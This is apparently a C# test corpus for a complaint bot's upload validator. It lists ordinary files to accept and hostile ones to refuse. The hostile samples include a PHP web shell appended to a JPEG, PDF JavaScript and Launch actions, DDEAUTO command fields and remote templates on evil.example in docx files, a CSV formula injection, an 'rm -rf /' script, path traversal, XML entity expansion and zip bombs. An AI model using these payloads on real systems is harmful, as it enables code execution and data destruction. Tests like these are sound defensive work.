using System.IO.Compression;
using System.Text;
using ComplaintBot.Dialogs;

namespace ComplaintBot.Tests.Documents;

/// <summary>A file of the corpus: what it is called, what is in it, and what must come of it.</summary>
internal sealed record Sample(string What, string Name, Func<byte[]> Make, string? MediaType, DocumentRefusal? Refusal)
{
    public override string ToString() => What;
}

/// <summary>Good files and hostile ones, by what they are.</summary>
internal static class Corpus
{
    private const string Docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private const string Odt = "application/vnd.oasis.opendocument.text";
    private const string Page = "<!DOCTYPE html><html><script>alert(1)</script></html>";

    private static readonly byte[] Program = [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0, .. new byte[200]];

    public static readonly IReadOnlyList<Sample> Good =
    [
        Ok("a pdf", "factuur.pdf", () => Files.Pdf(), "application/pdf"),
        Ok("a pdf whose table is a stream", "factuur.PDF", () => Files.PdfWithStream(), "application/pdf"),
        Ok("a pdf behind a few lines of a mail program", "factuur.pdf", () => [.. "Content-Type: application/pdf\r\n\r\n"u8, .. Files.Pdf()], "application/pdf"),
        Ok("a pdf that speaks of encryption", "handleiding.pdf", () => Files.Pdf("/Encrypt 5 0 R", page: "/Title (see /Encrypt) /Sub << /Encrypt 9 0 R >>"), "application/pdf"),
        Ok("a pdf whose page shows the word JavaScript", "cursus.pdf", () => Files.Pdf("/JavaScript /Launch"), "application/pdf"),
        Ok("a pdf with an invoice as data in it", "e-factuur.pdf", () => Files.Pdf(more: "5 0 obj\n<< /Type /EmbeddedFile /Length 6 >>\nstream\n<xml/>\nendstream\nendobj\n"), "application/pdf"),
        Ok("a pdf whose table is torn", "oud.pdf", () => Files.Latin(Encoding.Latin1.GetString(Files.Pdf()).Replace("startxref\n", "startxref\n9", StringComparison.Ordinal)), "application/pdf"),
        Ok("a pdf by no extension", "factuur", () => Files.Pdf(), "application/pdf"),
        Ok("a pdf of version 1.2", "contract versie 1.2", () => Files.Pdf(), "application/pdf"),
        Ok("a jpeg", "foto.jpg", () => Files.Jpeg(), "image/jpeg"),
        Ok("a jpeg by its long extension", "foto.JPEG", () => Files.Jpeg(4000, 3000), "image/jpeg"),
        Ok("a jpeg with a short film behind it", "MVIMG_1.jpg", () => [.. Files.Jpeg(), 0, 0, 0, 0x18, .. "ftypmp42"u8, .. new byte[500]], "image/jpeg"),
        Ok("a png", "scherm.png", () => Files.Png(), "image/png"),
        Ok("a png by the name of a jpeg", "IMG_2041.JPG", () => Files.Png(), "image/png"),
        Ok("a webp by the name of a jpeg", "image.jpeg", () => Files.Webp(), "image/webp"),
        Ok("a webp by the name of a png", "sticker.png", () => Files.Webp(), "image/webp"),
        Ok("a jpeg by the name of a heic", "IMG_0001.HEIC", () => Files.Jpeg(), "image/jpeg"),
        Ok("a jpeg by the name of a gif", "giphy.gif", () => Files.Jpeg(), "image/jpeg"),
        Ok("a webp", "foto.webp", () => Files.Webp(), "image/webp"),
        Ok("an extended webp", "foto.webp", () => Files.WebpOf(4000, 3000), "image/webp"),
        Ok("a tiff", "scan.tif", () => Files.Tiff(), "image/tiff"),
        Ok("a tiff of the other order", "scan.tiff", () => Files.Tiff(bigEndian: true), "image/tiff"),
        Ok("a heic", "IMG_0001.HEIC", () => Files.Heic(), "image/heic"),
        Ok("a heif", "IMG_0001.heif", () => Files.Heic(brand: "mif1"), "image/heic"),
        Ok("a docx", "brief.docx", () => Files.Docx(), Docx),
        Ok("a docx made from a template on its writer's disk", "brief.docx", () => Files.Docx(("word/_rels/settings.xml.rels", Files.Relationship("attachedTemplate", "file:///C:\\Users\\anna\\Normal.dotm"))), Docx),
        Ok("a docx with a link in it", "brief.docx", () => Files.Docx(("word/_rels/document.xml.rels", Files.Relationship("hyperlink", "https://example.org/"))), Docx),
        Ok("a docx with a workbook in it", "brief.docx", () => Files.Docx(("word/embeddings/table.xlsx", Files.Xlsx())), Docx),
        Ok("a docx with page numbers", "brief.docx", () => Files.DocxOf(Field("PAGE \\* MERGEFORMAT")), Docx),
        Ok("an xlsx", "kosten.xlsx", () => Files.Xlsx(), Xlsx),
        Ok("an odt", "brief.odt", () => Files.Odt(), Odt),
        Ok("a mail", "Mijn factuur.eml", () => Files.Eml(), "message/rfc822"),
        Ok("a message of outlook", "Mijn factuur.msg", () => Files.Msg(), "application/vnd.ms-outlook"),
        Ok("a message of outlook with a workbook attached", "Mijn factuur.msg", () => Files.Msg("__attach_version1.0_#00000000", "Workbook"), "application/vnd.ms-outlook"),
        Ok("a text in utf-8", "verhaal.txt", () => Files.Utf8("Het kostte € 900, en dat is te véél.\r\n"), "text/plain"),
        Ok("a text in utf-8 with its mark", "verhaal.txt", () => [0xEF, 0xBB, 0xBF, .. Files.Utf8("Één")], "text/plain"),
        Ok("a text in utf-16", "verhaal.txt", () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Het kostte € 900")], "text/plain"),
        Ok("a text in utf-16 of the other order", "verhaal.txt", () => [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes("Het kostte € 900")], "text/plain"),
        Ok("a text of windows", "verhaal.txt", () => [.. "Het kostte "u8, 0x80, .. " 900, v"u8, 0xE9, 0xE9, .. "l"u8], "text/plain"),
        Ok("a mail as text", "mail.txt", () => Files.Eml(), "text/plain"),
        Ok("a text that a window cuts within a letter", "lang.txt", () => Files.Utf8("a" + string.Concat(Enumerable.Repeat("é", 100_000))), "text/plain"),
        Ok("a text that begins with MZ", "brief.txt", () => Files.Utf8("MZ-12-AB is het kenteken van de auto waarover deze klacht gaat, en die staat al drie weken stil."), "text/plain"),
    ];

    public static readonly IReadOnlyList<Sample> Bad =
    [
        No("an empty file", "leeg.pdf", () => [], DocumentRefusal.Empty),

        No("a pdf with a password", "loonstrook.pdf", () => Files.Pdf(trailer: "/Encrypt 9 0 R"), DocumentRefusal.Encrypted),
        No("a pdf with a password, its key spelled with an escape", "loonstrook.pdf", () => Files.Pdf(trailer: "/Encr#79pt 9 0 R"), DocumentRefusal.Encrypted),
        No("a pdf with a password whose table is a stream", "loonstrook.pdf", () => Files.PdfWithStream("/Encrypt 9 0 R"), DocumentRefusal.Encrypted),
        No("a pdf with a password whose table is torn", "loonstrook.pdf", () => Files.Latin(Encoding.Latin1.GetString(Files.Pdf(trailer: "/Encrypt 9 0 R")).Replace("startxref\n", "startxref\n9", StringComparison.Ordinal)), DocumentRefusal.Encrypted),
        No("a pdf that was cut", "factuur.pdf", () => Files.Pdf()[..200], DocumentRefusal.Damaged),
        No("a pdf with a script", "formulier.pdf", () => Files.Pdf(more: "5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), DocumentRefusal.Hostile),
        No("a pdf with a script by a spelled name", "formulier.pdf", () => Files.Pdf(more: "5 0 obj\n<< /S /Java#53cript /JS (app.alert(1)) >>\nendobj\n"), DocumentRefusal.Hostile),
        No("a pdf with a script across two windows", "formulier.pdf", () => Files.Pdf(more: "% " + new string('x', 64 * 1024 - 330) + "\n5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), DocumentRefusal.Hostile),
        No("a pdf that starts a program", "formulier.pdf", () => Files.Pdf(more: "5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), DocumentRefusal.Hostile),
        No("a pdf that is an archive too", "factuur.pdf", () => [.. Files.Pdf(), .. Files.Zip(("a.class", [1]))], DocumentRefusal.Hostile),
        No("a pdf that is a page too", "factuur.pdf", () => [.. "<html><script>"u8, .. Files.Pdf()], DocumentRefusal.Hostile),
        No("a pdf that is a page behind its header", "factuur.pdf", () => Files.Latin(Encoding.Latin1.GetString(Files.Pdf()).Replace("%âãÏÓ", "%<html><body onload=alert(1)>", StringComparison.Ordinal)), DocumentRefusal.Hostile),
        No("a pdf that is a gif too", "factuur.pdf", () => [.. "GIF89a......"u8, .. Files.Pdf()], DocumentRefusal.Hostile),

        No("an archive with a pdf in front", "factuur.pdf", () => Files.Zip(CompressionLevel.NoCompression, ("%PDF-1.4", Files.Pdf())), DocumentRefusal.Hostile),
        No("a jpeg that is an archive of java too", "foto.jpg", () => [.. Files.Jpeg(), .. Files.Zip(("META-INF/MANIFEST.MF", [1]))], DocumentRefusal.Hostile),
        No("a jpeg with a script behind it", "foto.jpg", () => [.. Files.Jpeg(), .. "<?php system($_GET['c']); ?>"u8], DocumentRefusal.Hostile),
        No("a png with a page behind it", "scherm.png", () => [.. Files.Png(), .. Files.Utf8(Page)], DocumentRefusal.Hostile),
        No("a png with a program behind it", "scherm.png", () => [.. Files.Png(), .. Program], DocumentRefusal.Hostile),
        No("a tiff with a script in it", "scan.tif", () => [.. Files.Tiff(), .. "<SCRIPT src=//x>"u8], DocumentRefusal.Hostile),
        No("a jpeg that was cut", "foto.jpg", () => Files.Jpeg()[..^2], DocumentRefusal.Damaged),
        No("a png that was cut", "scherm.png", () => Files.Png()[..^13], DocumentRefusal.Damaged),
        No("a webp that was cut", "foto.webp", () => Files.Webp()[..^4], DocumentRefusal.Damaged),
        No("a tiff whose directory is elsewhere", "scan.tif", () => Files.Tiff()[..12], DocumentRefusal.Damaged),
        No("a tiff that goes in circles", "scan.tif", () => Files.Tiff(next: 8), DocumentRefusal.Damaged),
        No("a heic without a picture", "IMG.heic", () => Files.Heic()[..32], DocumentRefusal.Damaged),
        No("a png of billions of points", "scherm.png", () => Files.Png(60_000, 60_000), DocumentRefusal.Bomb),
        No("a png of more points than a number holds", "scherm.png", () => Files.Png(uint.MaxValue, uint.MaxValue), DocumentRefusal.Bomb),
        No("a jpeg of billions of points", "foto.jpg", () => Files.Jpeg(65_000, 65_000), DocumentRefusal.Bomb),
        No("a webp of billions of points", "foto.webp", () => Files.WebpOf(16_000_000, 16_000_000), DocumentRefusal.Bomb),
        No("a tiff of billions of points", "scan.tif", () => Files.Tiff(uint.MaxValue, uint.MaxValue), DocumentRefusal.Bomb),
        No("a heic of billions of points", "IMG.heic", () => Files.Heic(uint.MaxValue, uint.MaxValue), DocumentRefusal.Bomb),
        No("a png without points", "scherm.png", () => Files.Png(0, 1), DocumentRefusal.Damaged),

        No("a docx with a password", "brief.docx", () => Files.Ole("EncryptionInfo", "EncryptedPackage"), DocumentRefusal.Encrypted),
        No("an archive with a password", "brief.docx", () => Encrypted(Files.Docx()), DocumentRefusal.Encrypted),
        No("a docx that was cut", "brief.docx", () => Files.Docx()[..^40], DocumentRefusal.Damaged),
        No("a docx with macros", "brief.docx", () => Files.Docx(("word/vbaProject.bin", [1, 2])), DocumentRefusal.Hostile),
        No("a docm by another name", "brief.docx", () => Files.Office("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml", Files.WordBody(""), []), DocumentRefusal.Hostile),
        No("a docx with a template from elsewhere", "brief.docx", () => Files.Docx(("word/_rels/settings.xml.rels", Files.Relationship("attachedTemplate", "https://evil.example/t.dotm"))), DocumentRefusal.Hostile),
        No("a docx with a template on somebody's share", "brief.docx", () => Files.Docx(("word/_rels/settings.xml.rels", Files.Relationship("attachedTemplate", "\\\\evil.example\\share\\t.dotm"))), DocumentRefusal.Hostile),
        No("a docx with a template on somebody's share, as an address", "brief.docx", () => Files.Docx(("word/_rels/settings.xml.rels", Files.Relationship("attachedTemplate", "file://evil.example/t.dotm"))), DocumentRefusal.Hostile),
        No("a docx with an object from elsewhere", "brief.docx", () => Files.Docx(("word/_rels/document.xml.rels", Files.Relationship("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"))), DocumentRefusal.Hostile),
        No("a docx that starts a program by a field", "brief.docx", () => Files.DocxOf(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")), DocumentRefusal.Hostile),
        No("a docx that starts a program by a field in pieces", "brief.docx", () => Files.DocxOf(Field("DDE", "AUTO c:\\\\cmd.exe")), DocumentRefusal.Hostile),
        No("a docx that starts a program by a simple field", "brief.docx", () => Files.DocxOf(Files.WordBody("x</w:t></w:r></w:p><w:p><w:fldSimple w:instr=\" dde excel x \"/><w:r><w:t>")), DocumentRefusal.Hostile),
        No("a docx with a program in it", "brief.docx", () => Files.Docx(("word/embeddings/oleObject1.bin", Program)), DocumentRefusal.Hostile),
        No("a docx with a file behind an icon in it", "brief.docx", () => Files.Docx(("word/embeddings/oleObject1.bin", Files.Ole("\u0001Ole10Native"))), DocumentRefusal.Hostile),
        No("a docx that leaves its folder", "brief.docx", () => Files.Docx(("../../etc/passwd", [1])), DocumentRefusal.Hostile),
        No("an xlsx that asks a program for data", "kosten.xlsx", () => Files.Xlsx(("xl/externalLinks/externalLink1.xml", Files.Utf8("<externalLink xmlns=\"x\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))), DocumentRefusal.Hostile),
        No("an xlsx with macros of old", "kosten.xlsx", () => Files.Xlsx(("xl/macrosheets/sheet1.xml", [1])), DocumentRefusal.Hostile),
        No("an odt with macros", "brief.odt", () => Files.Odt("text", ("Basic/Standard/Module1.xml", [1])), DocumentRefusal.Hostile),
        No("an odt that starts a macro", "brief.odt", () => Files.Odt("text", ("styles.xml", Files.Utf8("<script:event-listener script:event-name=\"dom:load\"/>"))), DocumentRefusal.Hostile),
        No("an odt with a password", "brief.odt", () => Files.Odt("text", ("META-INF/manifest.xml", Files.Utf8("<manifest:encryption-data/>"))), DocumentRefusal.Encrypted),
        No("an ods", "tabel.ods", () => Files.Odt("spreadsheet"), DocumentRefusal.Kind),
        No("a pptx", "dia.pptx", () => Files.Office("presentationml.presentation.main+xml", "ppt/presentation.xml", "<p/>", []), DocumentRefusal.Kind),
        No("a doc of before 2007", "brief.doc", () => Files.Ole("WordDocument", "1Table"), DocumentRefusal.Kind),
        No("an xls of before 2007", "kosten.xls", () => Files.Ole("Workbook"), DocumentRefusal.Kind),
        No("a doc of before 2007 with macros", "brief.doc", () => Files.Ole("WordDocument", "Macros", "VBA"), DocumentRefusal.Hostile),
        No("a compound file that goes in circles", "x.msg", () => Circle(Files.Msg()), DocumentRefusal.Damaged),
        No("a compound file that was cut", "x.msg", () => Files.Msg()[..700], DocumentRefusal.Damaged),

        No("a docx that unfolds to a billion zeros", "brief.docx", () => Files.Docx(("word/media/image1.bmp", new byte[300_000_000])), DocumentRefusal.Bomb),
        No("a docx whose entries share their bytes", "brief.docx", () => Shared(Files.Docx(("word/a.xml", new byte[50]), ("word/b.xml", new byte[50]))), DocumentRefusal.Bomb),
        No("a docx that says it is smaller than it is", "brief.docx", () => Lies(Files.Docx(("word/media/image1.bmp", new byte[100_000]))), DocumentRefusal.Bomb),
        No("a docx of entries without end", "brief.docx", () => Files.Docx([.. Enumerable.Range(0, 11_000).Select(i => ($"word/p{i}.xml", Array.Empty<byte>()))]), DocumentRefusal.Bomb),
        No("a docx in a docx in a docx", "brief.docx", () => Nested(4), DocumentRefusal.Bomb),
        No("a docx with entities that unfold", "brief.docx", () => Files.DocxOf("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><w:document>&b;</w:document>"), DocumentRefusal.Bomb),
        No("a docx with entities in utf-16", "brief.docx", () => Files.Docx(("word/comments.xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<!DOCTYPE l [<!ENTITY a \"ha\">]><x>&a;</x>")])), DocumentRefusal.Bomb),
        No("a bomb as an archive", "alles.zip", () => Files.Zip(("zeros", new byte[100_000_000])), DocumentRefusal.Bomb),
        No("an archive", "alles.zip", () => Files.Zip(("factuur.pdf", Files.Pdf())), DocumentRefusal.Kind),
        No("an archive by the name of a letter", "brief.docx", () => Files.Zip(("factuur.pdf", Files.Pdf())), DocumentRefusal.Kind),
        No("an archive of java", "app.jar", () => Files.Zip(("META-INF/MANIFEST.MF", [1]), ("A.class", [1])), DocumentRefusal.Hostile),

        No("a program", "factuur.exe", () => Program, DocumentRefusal.Hostile),
        No("a program that claims to be a pdf", "factuur.pdf", () => Program, DocumentRefusal.Hostile),
        No("a program of linux", "factuur.txt", () => [0x7F, .. "ELF"u8, 2, 1, 1, 0], DocumentRefusal.Hostile),
        No("a link of windows", "factuur.pdf.lnk", () => [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0], DocumentRefusal.Hostile),
        No("a page that claims to be text", "verhaal.txt", () => Files.Utf8("<html><body>Hallo</body></html>"), DocumentRefusal.Kind),
        No("a page with a script that claims to be text", "verhaal.txt", () => Files.Utf8(Page), DocumentRefusal.Hostile),
        No("a text with a script far within", "verhaal.txt", () => Files.Utf8(new string('a', 100_000) + "<sCript>alert(1)</script>"), DocumentRefusal.Hostile),
        No("a drawing that claims to be text", "verhaal.txt", () => Files.Utf8(" \n<svg xmlns=\"http://www.w3.org/2000/svg\"/>"), DocumentRefusal.Kind),
        No("a drawing with a script", "logo.svg", () => Files.Utf8("<svg><script>alert(1)</script></svg>"), DocumentRefusal.Hostile),
        No("a shell script that claims to be text", "verhaal.txt", () => Files.Utf8("#!/bin/sh\nrm -rf /\n"), DocumentRefusal.Hostile),
        No("a script of windows by its own name", "start.bat", () => Files.Utf8("@echo off\r\ndel *.*\r\n"), DocumentRefusal.Hostile),
        No("a script by its own name", "start.js", () => Files.Utf8("new ActiveXObject('x')"), DocumentRefusal.Hostile),
        No("text with zeros in it", "verhaal.txt", () => [.. "Hallo"u8, 0, .. "daar"u8], DocumentRefusal.Kind),
        No("text with control characters", "verhaal.txt", () => Files.Utf8("Hallo\u001b[31mrood\u0007"), DocumentRefusal.Kind),
        No("noise", "foto.jpg", () => Noise(5000), DocumentRefusal.Kind),
        No("a list", "kosten.csv", () => Files.Utf8("a;b\r\n1;=cmd|'/c calc'!A0\r\n"), DocumentRefusal.Kind),
        No("a gif", "lach.gif", () => [.. "GIF89a"u8, 1, 0, 1, 0, 0, 0, 0], DocumentRefusal.Kind),
        No("rich text", "brief.rtf", () => Files.Utf8("{\\rtf1\\ansi Hallo}"), DocumentRefusal.Kind),
        No("a film", "film.mp4", () => [0, 0, 0, 0x18, .. "ftypisom"u8, .. new byte[100]], DocumentRefusal.Kind),

        No("a pdf that claims to be a photo", "foto.jpg", () => Files.Pdf(), DocumentRefusal.Mislabelled),
        No("a photo that claims to be a pdf", "factuur.pdf", () => Files.Jpeg(), DocumentRefusal.Mislabelled),
        No("a photo that claims to be a program", "foto.exe", () => Files.Jpeg(), DocumentRefusal.Mislabelled),
        No("a page that claims to be a photo", "foto.jpg", () => Files.Utf8(Page), DocumentRefusal.Hostile),
        No("a program that claims to be a photo", "foto.png", () => Program, DocumentRefusal.Hostile),
        No("an archive that claims to be a photo", "foto.png", () => Files.Zip(("factuur.pdf", Files.Pdf())), DocumentRefusal.Kind),
        No("a photo that claims to be a drawing", "foto.svg", () => Files.Jpeg(), DocumentRefusal.Mislabelled),
        No("a workbook that claims to be a letter", "brief.docx", () => Files.Xlsx(), DocumentRefusal.Mislabelled),
        No("a text that claims to be a pdf", "factuur.pdf", () => Files.Utf8("Factuur"), DocumentRefusal.Mislabelled),
        No("a pdf that claims to be a program", "factuur.pdf.exe", () => Files.Pdf(), DocumentRefusal.Mislabelled),
        No("a pdf that claims to be a page", "factuur.html", () => Files.Pdf(), DocumentRefusal.Mislabelled),
        No("a text that claims to be a mail", "mail.eml", () => Files.Utf8("Hallo daar"), DocumentRefusal.Mislabelled),
    ];

    private static Sample Ok(string what, string name, Func<byte[]> make, string mediaType) => new(what, name, make, mediaType, null);

    private static Sample No(string what, string name, Func<byte[]> make, DocumentRefusal why) => new(what, name, make, null, why);

    private static string Field(params string[] pieces) => Files.WordBody(
        "x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + string.Concat(pieces.Select(p => $"<w:r><w:instrText xml:space=\"preserve\">{p.Replace("\"", "&quot;", StringComparison.Ordinal)}</w:instrText></w:r>"))
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:t>");

    private static byte[] Noise(int count)
    {
        var bytes = new byte[count];
        new Random(1).NextBytes(bytes);
        return bytes;
    }

    /// <summary>The flag of encryption on every entry.</summary>
    private static byte[] Encrypted(byte[] zip) => Each(zip, "PK\u0001\u0002"u8.ToArray(), entry => entry[8] |= 1);

    /// <summary>The directory says less than what the entry unfolds to.</summary>
    private static byte[] Lies(byte[] zip) => Each(zip, "PK\u0001\u0002"u8.ToArray(), entry =>
    {
        if (BitConverter.ToUInt32(entry[24..28]) == 100_000) BitConverter.TryWriteBytes(entry[24..], 10u);
    });

    /// <summary>The last entry is told to lie where another does.</summary>
    private static byte[] Shared(byte[] zip)
    {
        var text = Encoding.Latin1.GetString(zip);
        var (first, last) = (text.IndexOf("PK\u0003\u0004", text.IndexOf("word/a.xml", StringComparison.Ordinal) - 30, StringComparison.Ordinal), text.LastIndexOf("PK\u0001\u0002", StringComparison.Ordinal));
        zip[last + 46 + 5] = (byte)'a';
        BitConverter.TryWriteBytes(zip.AsSpan(last + 42), first);
        return zip;
    }

    private static byte[] Nested(int depth) => depth == 0 ? Files.Docx() : Files.Docx(("word/embeddings/inner.docx", Nested(depth - 1)));

    /// <summary>The directory's chain leads back to its beginning.</summary>
    private static byte[] Circle(byte[] ole)
    {
        BitConverter.TryWriteBytes(ole.AsSpan(512 + 4), 1);
        return ole;
    }

    private delegate void Changes(Span<byte> entry);

    private static byte[] Each(byte[] file, byte[] mark, Changes change)
    {
        for (var at = file.AsSpan().IndexOf(mark); at >= 0;)
        {
            change(file.AsSpan(at));
            var next = file.AsSpan(at + 4).IndexOf(mark);
            at = next < 0 ? -1 : at + 4 + next;
        }

        return file;
    }
}
